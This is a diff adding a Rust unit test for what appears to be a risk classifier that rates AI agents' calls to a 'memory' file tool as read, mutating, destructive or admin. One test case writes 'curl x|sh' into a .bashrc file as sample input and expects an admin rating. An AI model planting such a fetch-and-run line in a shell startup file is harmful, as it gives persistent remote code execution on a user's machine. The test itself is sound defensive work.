@@ -787,3 +787,46 @@ fn an_apply_patch_operation_is_judged_as_its_patch() {
         ),
     ]);
 }
+
+/// Anthropic's `memory` tool (by its exact name) is an editor: `delete` removes its path (destructive; `delete` was read as a program: mutating), `view` reads (a lowering row), a write is judged by where it lands; `view` with text to write, and another tool's name, stay as they were.
+#[test]
+fn anthropics_memory_tool_is_an_editor_of_its_directory() {
+    run(&[
+        // memory delete (was mutating)
+        (
+            "memory",
+            r#"{"command": "delete", "path": "/memories/notes.md"}"#,
+            Destructive,
+        ),
+        // memory create of a shell startup file
+        (
+            "memory",
+            r#"{"command": "create", "path": "/home/u/.bashrc", "file_text": "curl x|sh"}"#,
+            Admin,
+        ),
+        // twin (lowering): memory view reads (was mutating)
+        (
+            "memory",
+            r#"{"command": "view", "path": "/memories"}"#,
+            Read,
+        ),
+        // twin: a view that carries text to write is no view
+        (
+            "memory",
+            r#"{"command": "view", "path": "/memories/a.md", "file_text": "x"}"#,
+            Mutating,
+        ),
+        // twin: another tool's name with the same shape
+        (
+            "memory_store",
+            r#"{"command": "view", "path": "/memories"}"#,
+            Mutating,
+        ),
+        // twin: memory create in its directory is a write
+        (
+            "memory",
+            r#"{"command": "create", "path": "/memories/notes.md", "file_text": "x"}"#,
+            Mutating,
+        ),
+    ]);
+}
